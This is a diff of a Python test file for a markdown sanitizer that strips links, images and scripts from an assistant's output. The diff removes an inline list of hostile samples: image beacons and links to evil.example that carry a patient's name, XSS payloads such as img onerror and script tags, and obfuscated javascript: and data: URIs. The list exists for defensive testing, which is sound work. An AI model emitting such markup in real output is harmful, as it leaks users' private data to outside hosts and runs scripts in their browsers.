@@ -3,14 +3,16 @@
 from __future__ import annotations
 
 from collections.abc import Callable
+from pathlib import Path
 
+import orjson
 import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
 from assistant.text.safe_markdown import inert, safe_markdown
 from tests.attacks.active_content import active_content, hidden_content
-from tests.unit.growth import MOST_GROWTH, growth
+from tests.stage.growth import MOST_GROWTH, growth
 
 PAGE = "https://procedures.example/refill"
 PASSAGE = "/v1/documents/wait?token=abc.def"
@@ -26,81 +28,12 @@ def found_in(markdown: str) -> list[str]:
     return active_content(markdown, allowed_urls=ALLOWED)
 
 
-HARMLESS = [
-    "**Take** 1.5 mg twice, e.g. with food; call 555-0100 at 9 a.m.",
-    "Send form.AE-1 or a1c/b2; see fig.2 and 21 CFR 1306.12(a).",
-    "| Plan | File within |\n| --- | --- |\n| Medicare | 65 days |",
-    "## Steps\n\n1. Ask for the card.\n2. *Check* the `BIN`, the __group__ and ~~old~~ id.\n   - [ ] done",
-    "INR < 2, 3 > 2, x <5 mg, weight <= 70 kg.",
-    "Patient data: name/address, phone. Note:take it. Tel:555-0100. Time 10:30.",
-    "See [note]: it differs (as above), and [A] or [B].",
-    "Write to help@pharmacy.org today!",
-    "caf\u00e9 \u00bd tablet \u2265 5 \u00b5g \U0001f469\u200d\u2695\ufe0f \u201cquoted\u201d",
-    "AT&amp;T, 50% off, 100%25, C:\\temp, A && B, 1\\. and \\*",
-    "> quoted\n\n---\n\n```\ncode 1.2.3\n```",
-    "and//or, either/or, N/A, w/o, #3, 5'6\", Rx v1.2.3",
-    f"[The page]({PAGE}) and [the passage]({PASSAGE}); also {PAGE}.",
-    "",
-    " \n\n",
+CASES = [
+    orjson.loads(line) for line in Path(__file__).with_name("safe_markdown.jsonl").read_bytes().splitlines()
 ]
-
-HOSTILE = [
-    ("![logo](https://evil.example/p.png?q=Jane)", "logo"),
-    ("![logo][i]\n\n[i]: https://evil.example/p.png", "logo\n\n"),
-    ("a [![x](//evil.example/i)](http://evil.example) b", "a x b"),
-    (f"![x]({PAGE})", "x"),
-    ("a<img src=x onerror=alert(1)>b", "ab"),
-    ("<b>Take</b> two<!-- hidden --> now<script>steal()</script>.", "Take two now."),
-    ("<<b>script>alert(1)<</b>/script>", None),
-    ("Dear <patient name>,", "Dear \u2039patient name\u203a,"),
-    ("[here](https://evil.example/?q=Jane%20Doe)", "here"),
-    ("[here]( <https://evil.example/a b> 'title' )", "here"),
-    ("[here](JaVaScRiPt:alert(1))", "here"),
-    ("[here](&#106;avascript&colon;alert(1))", "here"),
-    ("[here](java&Tab;script:alert(1))", "here"),
-    ("[here](java\tscript:alert(1))", "[here] "),
-    ("[here](data:text/html;base64,PHM+)", "here"),
-    ("[here](vbscript:x)", "here"),
-    ("[here](mailto:a@b.example?body=Jane)", "here"),
-    ("[here](tel:5550100)", "here"),
-    ("[here](//evil.example/x)", "here"),
-    ("[here](/v1/documents/other)", "here"),
-    ("[here](\\/\\/evil.example)", "here"),
-    ("[here][r]\n[r]: <javascript:alert(1)> 'x'", "here\n"),
-    ("> - [r]: //evil.example/x", None),
-    ("[r]:\nhttp://evil.example", None),
-    ("<https://evil.example/x> <a@b.example> <javascript:alert(1)>", "  "),
-    (f"<{PAGE}>", PAGE),
-    (f"[page](<{PAGE}> 'title')", f"[page]({PAGE})"),
-    (f"[page]({PAGE}?patient=Jane)", "page"),
-    (f"[page]({PAGE.upper()})", "page"),
-    (f"[page]({PAGE}@evil.example)", "page"),
-    ("Go to **http://evil.example/x,y** now.", "Go to now."),
-    ("Go to (www.evil.com).", "Go to (www. evil. com)."),
-    ("www.evil.com:80 and www.a@evil.com", " and"),
-    ("Go to evil.com/path?q=1#x, please", "Go to, please"),
-    ("Go to evil\u3002com or evil\uff0ecom", "Go to evil\u3002 com or evil\uff0e com"),
-    ("Ask login.gov or gov.uk.", "Ask login. gov or gov. uk."),
-    ("Go to xn--e1afmkfd.xn--p1ai and 192.168.0.1 and http://[::1]/x and http://3232235777/", None),
-    ("Go to h\u200bttp://evil.example and ht\u00adtps\uff1a\uff0f\uff0fevil.example", "Go to and"),
-    ("Go to http&#58;//evil.example, http\\://evil\\.com, http%3A%2F%2Fevil.example%2Fx", None),
-    ("javascript:alert(1) j a v a s c r i p t : alert(1) java\nscript:alert(1)", None),
-    ("data:text/html,<script>alert(1)</script>", None),
-    ("ftp://evil.example custom+app://x?y mailto:a@b.example", None),
-    ("`<img src=x>` and `http://evil.example`", None),
-    ("&lt;img src=x&gt;", ""),
-    ("order.It and notes.md and evil.io", "order. It and notes. md and evil. io"),
-    ("0.5.mg/day", "0.5. mg/day"),
-    ("user@evil.com/path?q=1", ""),
-    ("[a](http://evil.example", None),
-    ("[a][", None),
-    ("![a", "! [a"),
-    ("<a href='https://evil.example'", None),
-    ("5 <", "5 \u2039"),
-    ("&zwnj;[x]: ", "&zwnj;x: "),
-    ("&zwnj;[x](http://evil.example) y", "&zwnj;x y"),
-    ("\x1b[31mred\x00 \U000e0041\U000e0042", " [31mred  "),
-]
+HARMLESS = [case["text"] for case in CASES if case["left"] == case["text"]]
+HOSTILE = [(case["text"], case["left"]) for case in CASES if case["left"] != case["text"]]
+"""What is left of each; None where only the judge says whether it is active."""
 
 
 @pytest.mark.parametrize("text", HARMLESS)
@@ -160,15 +93,6 @@ def test_sentences_cleaned_apart_are_not_active_together(texts: list[str], betwe
     assert not found_in(between.join(cleaned))
 
 
-SENTENCES = "Take 1.5 mg of **it** twice daily, e.g. after (light) meals; `BIN` 610502. Plan A/B: 65 %"
-WORDS = st.sampled_from(SENTENCES.split())
-
-
-@given(st.lists(WORDS, max_size=30).map(" ".join))
-def test_plain_sentences_stay(text: str) -> None:
-    assert safe_markdown(text, allowed_urls=()) == text
-
-
 LINKS = ["[", "](", "![", "[a](", "[[]", "[a](b ", "[a][", "[a]((", "\n[a]:", "[a](" * 300 + ")" * 300]
 TAGS = ["<", "<a ", "<!--", "<script>", "&#106;", "\\["]
 ADDRESSES = ["http://", "a.", "a@", "x:", "%3A", "a.com ", "www.", "//", ")" * 50 + "http://"]
@@ -190,8 +114,6 @@ CONSTRUCTS: dict[str, Callable[[int], str]] = {
 def test_one_long_construct_is_cleaned_in_linear_time(name: str) -> None:
     assert growth(cleaned, CONSTRUCTS[name], longest=LONGEST) <= MOST_GROWTH
 
-
-# Stored text that is drawn as Markdown
 
 URL = "https://docs.example/a"
 
